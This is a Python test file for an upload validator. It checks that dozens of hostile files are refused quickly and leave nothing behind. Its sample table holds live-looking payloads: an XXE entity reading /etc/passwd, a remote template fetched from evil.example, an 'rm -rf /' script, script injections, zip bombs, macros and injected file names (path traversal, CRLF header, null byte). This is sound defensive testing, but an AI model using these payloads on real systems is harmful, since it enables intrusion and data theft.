"""Every bad file that we know of is refused, quickly, with what to do next, and leaves nothing behind."""

import io
import resource
import time
from pathlib import Path

import pytest
from PIL import Image

from prasan.files import sandbox
from prasan.files.models import StoredFile
from prasan.ui.errors import BadInput
from tests.files import samples
from tests.files.conftest import Bring, left_behind

_EXTERNAL = (
    b'<Relationships><Relationship Id="r1" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm"/></Relationships>'
)
_XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
_PADDED_XXE = b'<?xml version="1.0"?><!--' + b" " * 600_000 + b"-->" + _XXE[21:]

BAD = {
    "empty": (b"", "a.txt", "empty"),
    "program": (b"MZ\x90\x00" + bytes(200), "a.exe", "type"),
    "program under a letter's name": (b"MZ\x90\x00" + bytes(200), "a.pdf", "type"),
    "linux program": (b"\x7fELF\x02\x01\x01" + bytes(200), "a.docx", "type"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "a.txt", "type"),
    "batch file": (b"del *.*", "a.bat", "type"),
    "web page": (b"<!DOCTYPE html><script>alert(1)</script>", "a.html", "type"),
    "web page as text": (b"\xef\xbb\xbf \n<html><script>alert(1)</script>", "a.txt", "type"),
    "drawing with script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "a.svg",
        "type",
    ),
    "drawing as picture": (b'<?xml version="1.0"?><svg onload="alert(1)"/>', "a.png", "type"),
    "rich text": (b"{\\rtf1 \\objdata}", "a.doc", "type"),
    "bytes of no type": (bytes(range(256)), "a.txt", "type"),
    "archive": (samples.zipped({"a.exe": b"MZ"}), "a.zip", "archive"),
    "archive as letter": (samples.zipped({"a.exe": b"MZ"}), "a.docx", "archive"),
    "other archive": (b"Rar!\x1a\x07\x00", "a", "archive"),
    "phone picture": (b"\x00\x00\x00\x18ftypheic" + bytes(50), "a.heic", "heic"),
    "phone picture renamed": (b"\x00\x00\x00\x18ftypheic" + bytes(50), "a.jpg", "heic"),
    "letter as picture": (samples.pdf(), "a.jpg", "lies"),
    "picture as letter": (samples.picture(), "a.pdf", "lies"),
    "sheet as letter": (samples.xlsx(), "a.docx", "lies"),
    "text as letter": (b"hello", "a.pdf", "lies"),
    "bomb": (samples.zeros(200), "a.docx", "bomb"),
    "smaller bomb": (samples.zeros(40), "a.docx", "bomb"),
    "bomb of many parts": (
        samples.docx(extra={f"word/{n}.bin": bytes(5_000_000) for n in range(30)}),
        "a.docx",
        "bomb",
    ),
    "overlapping bomb": (samples.overlapping_bomb(), "a.docx", "bomb"),
    "lying bomb": (samples.lying_bomb(), "a.docx", "damaged"),
    "ten thousand parts": (samples.docx(extra={f"p{n}": b"" for n in range(10_000)}), "a.docx", "bomb"),
    "climbing part": (samples.docx(extra={"../../evil": b"x"}), "a.docx", "damaged"),
    "macros": (samples.docx(extra={"word/vbaProject.bin": b"x"}), "a.docx", "macros"),
    "macros by name": (samples.docx(), "a.docm", "macros"),
    "older macros": (samples.ole("WordDocument", "_VBA_PROJECT"), "a.doc", "macros"),
    "entity": (samples.docx(document=_XXE), "a.docx", "entities"),
    "entity far down": (samples.docx(document=_PADDED_XXE), "a.docx", "entities"),
    "entity in another alphabet": (samples.docx(document=_XXE.decode().encode("utf-16")), "a.docx", "entities"),
    "template from outside": (
        samples.docx(extra={"word/_rels/settings.xml.rels": _EXTERNAL}),
        "a.docx",
        "entities",
    ),
    "locked sheet": (samples.ole("EncryptedPackage"), "a.xlsx", "locked"),
    "locked letter": (samples.locked_pdf(), "a.pdf", "locked"),
    "installer": (samples.ole("SummaryInformation"), "a.doc", "type"),
    "huge picture": (samples.huge_png(), "a.png", "pixels"),
    "broken picture": (samples.picture()[:200], "a.jpg", "damaged"),
    "picture that is a script": (b"GIF89a/*" + b"\x00" * 20 + b"*/=alert(1)", "a.gif", "damaged"),
    "broken letter": (b"%PDF-1.7\nnothing here", "a.pdf", "damaged"),
    "broken archive": (samples.docx()[:-30], "a.docx", "damaged"),
    "climbing name": (b"hello", "../../etc/passwd.txt", "bad_name"),
    "climbing name of Windows": (b"hello", "..\\..\\a.txt", "bad_name"),
    "name with nothing in it": (b"hello", "a.exe\x00.txt", "bad_name"),
    "name with a line break": (b"hello", "a\r\nSet-Cookie: x.txt", "bad_name"),
    "name read backwards": (b"hello", "a\u202etxt.exe", "bad_name"),
    "no name": (b"hello", " . ", "no_name"),
}


@pytest.mark.parametrize("which", BAD)
def test_refused(bring: Bring, storage: Path, which: str) -> None:
    content, name, why = BAD[which]
    started, used = time.monotonic(), _memory()
    with pytest.raises(BadInput) as caught:
        bring(content, name)
    assert caught.value.code == f"files.{why}"
    assert str(caught.value.fields["upload"]) == str(caught.value.message)
    assert left_behind(storage) == []
    assert not StoredFile.objects.exists()
    assert time.monotonic() - started < 5
    assert _memory() - used < 100 * 1024, "in kilobytes"


def _memory() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


def test_a_picture_with_a_tail_keeps_the_tail_to_itself(bring: Bring) -> None:
    from prasan.files import queries

    file = bring(samples.picture() + samples.zipped({"evil.exe": b"MZ evil"}), "a.jpg")
    with queries.content(file) as served:
        copy = served.read()
    assert b"PK\x03\x04" not in copy
    with Image.open(io.BytesIO(copy)) as picture:
        assert picture.format == "JPEG"


def test_a_look_that_takes_too_long_is_a_refusal(bring: Bring, storage: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "SECONDS", 0.001)
    with pytest.raises(BadInput) as caught:
        bring(samples.pdf(), "a.pdf")
    assert caught.value.code == "files.damaged"
    assert left_behind(storage) == []


def test_a_look_that_takes_too_much_memory_is_a_refusal(
    bring: Bring, storage: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from subprocess import CompletedProcess

    killed = CompletedProcess[bytes](["x"], returncode=-9, stdout=b"", stderr=b"")
    monkeypatch.setattr(sandbox.subprocess, "run", lambda *_given, **_options: killed)
    with pytest.raises(BadInput):
        bring(samples.pdf(), "a.pdf")
    assert left_behind(storage) == []
